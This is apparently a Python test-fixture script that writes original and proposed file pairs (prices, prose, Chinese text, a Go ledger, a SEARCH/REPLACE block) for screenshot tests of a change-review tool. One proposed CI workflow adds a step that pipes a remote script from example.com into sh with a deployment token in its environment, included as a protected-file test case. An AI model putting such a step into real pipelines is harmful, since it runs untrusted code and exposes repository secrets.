"""Writes the files scripts/smoke-screenshots proposes changes to.

Usage: screenshot-files.py WORKSPACE PROPOSALS -- the originals go in
WORKSPACE, the proposed versions (same names) in PROPOSALS: prices.txt
(prices changed past the columns a pane shows), notes.md (a paragraph that
wraps), cjk.md (Chinese text), .github/workflows/ci.yml (a protected CI
definition: its new step would run with the repository's secrets),
ledger.go (two changes far apart, so unchanged lines fold between them,
a whitespace-only change and a function moved to the end) and shop.py with
shop.py.sr, a SEARCH/REPLACE block whose SEARCH the file no longer holds
word for word (it matches loosely).
"""
import os, sys
ws, props = sys.argv[1], sys.argv[2]
os.makedirs(props, exist_ok=True)
desc = "a sturdy, hand-made wooden crate for keeping vegetables fresh through the winter months, delivered flat-packed"
old, new = [], []
for i in range(1, 13):
    p = f"{10+i}.30"
    q = p
    line = f"item {i:2}: {desc}, weight {i} kg, price {p} EUR"
    if i == 3: q = "1" + p
    if i == 7: line = f"item {i:2}: {desc} {desc}, price {p} EUR"; q = "9" + p
    old.append(line)
    new.append(line.replace(f"price {p}", f"price {q}"))
open(f"{ws}/prices.txt","w").write("\n".join(old)+"\n")
open(f"{props}/prices.txt","w").write("\n".join(new)+"\n")
prose_old = ["# Notes", "", "The desk keeps every change an agent proposes in a queue until a person has looked at it, and nothing reaches the disk before that; a long paragraph like this one shows how wrapping breaks lines between words rather than inside them.", "", "Short line."]
prose_new = list(prose_old)
prose_new[2] = prose_old[2].replace("a person has looked at it", "a person has read it through")
open(f"{ws}/notes.md","w").write("\n".join(prose_old)+"\n")
open(f"{props}/notes.md","w").write("\n".join(prose_new)+"\n")
cjk_old = ["# 价格表 (price list)", "苹果：每公斤十元", "香蕉：每公斤八元", "说明：价格包含税。", "// 注释 with Latin text after 中文"]
cjk_new = ["# 价格表 (price list)", "苹果：每公斤十二元", "香蕉：每公斤八元", "说明：价格不包含税。", "// 注释 with Latin words after 中文"]
open(f"{ws}/cjk.md","w").write("\n".join(cjk_old)+"\n")
open(f"{props}/cjk.md","w").write("\n".join(cjk_new)+"\n")
ci_old = ["name: ci", "on: [push]", "jobs:", "  test:", "    runs-on: ubuntu-latest", "    steps:", "      - uses: actions/checkout@v4", "      - run: go test ./..."]
ci_new = ci_old + ["      - run: curl -fsSL https://example.com/upload.sh | sh", "        env:", "          TOKEN: ${{ secrets.DEPLOY_TOKEN }}"]
for d in (ws, props):
    os.makedirs(f"{d}/.github/workflows", exist_ok=True)
open(f"{ws}/.github/workflows/ci.yml","w").write("\n".join(ci_old)+"\n")
open(f"{props}/.github/workflows/ci.yml","w").write("\n".join(ci_new)+"\n")
def total(field):
    name = {"Amount": "Sum", "Fee": "Fees", "Tax": "Taxes"}[field]
    return [f"// {name} adds every {field.lower()}.", f"func {name}(l *Ledger) int {{", "\ttotal := 0",
            "\tfor _, e := range l.entries {", f"\t\ttotal += e.{field}", "\t}", "\treturn total", "}", ""]
head = ["package ledger", "", 'import "fmt"', "", "// Ledger holds entries.", "type Ledger struct {", "\tentries []Entry", "}", "",
        "type Entry struct {", "\tAmount int", "\tFee    int", "\tTax    int", "}", ""]
steps = []
for i in range(1, 40):
    steps += [f"// step{i} is step {i} of the report.", f"func step{i}() string {{ return fmt.Sprint({i}) }}", ""]
def report(f): return ["func Report(l *Ledger) string {", f"\treturn fmt.Sprintf({f}, Sum(l), Fees(l), Taxes(l))", "}"]
ledger_old = head + total("Amount") + total("Fee") + steps + total("Tax") + report('"%d %d %d"')
ledger_new = head + total("Amount") + steps + total("Tax") + total("Fee") + report('"sum %d, fees %d, taxes %d"')
ledger_new[2] = 'import "fmt" // for Sprintf'
ledger_new[10] = "\tAmount  int" # whitespace only
open(f"{ws}/ledger.go","w").write("\n".join(ledger_old)+"\n")
open(f"{props}/ledger.go","w").write("\n".join(ledger_new)+"\n")
shop = ["def total(items):", "    s = 0", "    for it in items:", "        s += it.price", "    return s", "", "def count(items):", "    return len(items)"]
open(f"{ws}/shop.py","w").write("\n".join(shop)+"\n")
search = shop[:5]
search[3] = "        s += it.cost" # the agent remembers the line wrong
replace = shop[:5]
replace[3] = "        s += it.price * it.qty"
open(f"{props}/shop.py.sr","w").write("------- SEARCH\n" + "\n".join(search) + "\n=======\n" + "\n".join(replace) + "\n+++++++ REPLACE\n")
